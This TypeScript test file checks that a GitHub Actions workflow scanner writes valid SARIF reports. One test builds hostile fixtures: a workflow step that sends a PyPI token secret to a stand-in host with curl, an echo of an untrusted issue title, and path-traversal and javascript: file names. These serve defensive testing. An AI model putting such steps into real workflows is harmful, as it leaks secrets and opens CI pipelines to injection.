import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { rules } from '../rules.ts'
import { type FileText, scanTexts } from '../scan.ts'
import { writers } from '../writers.ts'
import { sarifSchema } from './sarif-schema.ts'
import type { Outcome } from './writer.ts'

const validate = new Ajv2020({ allErrors: true, strict: true }).compile(sarifSchema)

/** What the program writes of these files, as a value. */
async function logOf(files: readonly FileText[]) {
  const report = await scanTexts(files, { persona: 'auditor' })
  const texts = new Map(files.map(({ path, text }) => [path, text]))
  const outcome: Outcome = {
    ...report,
    suppressed: { byComment: 0, byBaseline: 0, byChoice: 0 },
    deadIgnores: [],
    rules,
    textOf: (path) => texts.get(path),
    milliseconds: 1,
    version: '0.1.0',
  }
  return JSON.parse([...(await writers.sarif!())(outcome, { hasColour: false, hasLinks: false, width: 80, folder: undefined })].join(''))
}

/** Valid, and what points at something points at what it means. */
async function assertValid(files: readonly FileText[]) {
  const log = await logOf(files)
  assert.equal(validate(log), true, JSON.stringify(validate.errors?.slice(0, 5)))
  const run = log.runs[0]
  for (const result of run.results) {
    assert.equal(run.tool.driver.rules[result.ruleIndex]?.id, result.ruleId)
    const ids = result.relatedLocations.map(({ id }: { id: number }) => id)
    assert.equal(new Set(ids).size, ids.length)
    for (const { physicalLocation } of [...result.locations, ...result.relatedLocations]) {
      const { startLine, startColumn, endLine, endColumn } = physicalLocation.region
      assert.ok(endLine > startLine || (endLine === startLine && endColumn >= startColumn))
      assert.ok(run.artifacts.some(({ location }: { location: unknown }) => sameLocation(location, physicalLocation.artifactLocation)))
    }
  }
  return run
}

const sameLocation = (a: unknown, b: unknown) => JSON.stringify(a) === JSON.stringify(b)

const testdata = join(import.meta.dirname, '../../testdata')
const inFolder = (folder: string): FileText[] =>
  globSync('*.yml', { cwd: join(testdata, folder) })
    .toSorted()
    .map((name) => ({ path: `${folder}/${name}/.github/workflows/w.yml`, text: readFileSync(join(testdata, folder, name), 'utf8') }))

test('SARIF of nothing is valid', async () => assert.equal((await assertValid([])).results.length, 0))

test('SARIF of a workflow in which nothing is found is valid', async () => {
  const text =
    'name: Build\non: push\npermissions: {}\nconcurrency: { group: "b", cancel-in-progress: true }\njobs:\n  b:\n    name: Build\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n'
  const run = await assertValid([{ path: '.github/workflows/a.yml', text }])
  assert.equal(run.artifacts.length, 1)
  assert.equal(run.properties.verdict, run.results.length === 0 ? 'clean' : 'untidy')
})

test('SARIF of every incident, with findings of each verdict and most kinds, is valid', async () => {
  const run = await assertValid(inFolder('incidents'))
  const found = new Set(run.results.map((each: { properties: { verdict: string } }) => each.properties.verdict))
  assert.deepEqual([...found].toSorted(), ['exploitable', 'malicious', 'untidy'])
  assert.ok(run.tool.driver.rules.length >= 15)
})

test('SARIF of honest workflows is valid', async () => {
  await assertValid(inFolder('honest'))
})

test('SARIF of files that cannot be read is valid and says so', async () => {
  const run = await assertValid([
    { path: 'a/.github/workflows/a.yml', text: 'on: [push\njobs: {{{{' },
    { path: 'b/.github/workflows/b.yml', text: '\u0000\u0001\u0002' },
    { path: 'c/.github/workflows/c.yml', text: '' },
    { path: 'd/.github/workflows/d.yml', text: `a: ${'['.repeat(5000)}` },
  ])
  assert.ok(run.invocations[0].toolExecutionNotifications.length > 0)
})

test('SARIF of hostile names and texts is valid', async () => {
  const names = ['javascript:alert(1)', '../../etc/passwd', 'a b', 'ü\u202ex', 'x\ud800y', '?q#f', '%2e%2e', 'a\\b', '//host/x', 'c:d']
  const text = (name: string) =>
    `on: issues\njobs:\n  "${name.replaceAll('\\', '')}\u001b[2J":\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d "\${{ secrets.PYPI_TOKEN }}" http://collect.example/\n          echo \${{ github.event.issue.title }}\n`
  const run = await assertValid(names.map((name) => ({ path: `${name}/.github/workflows/w.yml`, text: text(name) })))
  assert.ok(run.results.length >= names.length)
})

test('the schema refuses what SARIF does not have', async () => {
  const log = await logOf(inFolder('incidents').slice(0, 3))
  const [run] = log.runs
  const [result] = run.results
  const broken: unknown[] = [
    { ...log, version: '2.0.0' },
    { ...log, runs: [{ ...run, results: undefined }] },
    { ...log, runs: [{ ...run, columnKind: 'bytes' }] },
    { ...log, runs: [{ ...run, extra: 1 }] },
    ...[
      { ruleIndex: -1 },
      { level: 'critical' },
      { message: {} },
      { message: 'text' },
      { locations: [] },
      { partialFingerprints: { x: 1 } },
      { locations: [{ physicalLocation: { artifactLocation: { uri: 'javascript:x', uriBaseId: 'ROOT' } } }] },
    ].map((change) => ({ ...log, runs: [{ ...run, results: [{ ...result, ...change }] }] })),
  ]
  for (const each of broken) assert.equal(validate(JSON.parse(JSON.stringify(each))), false)
})
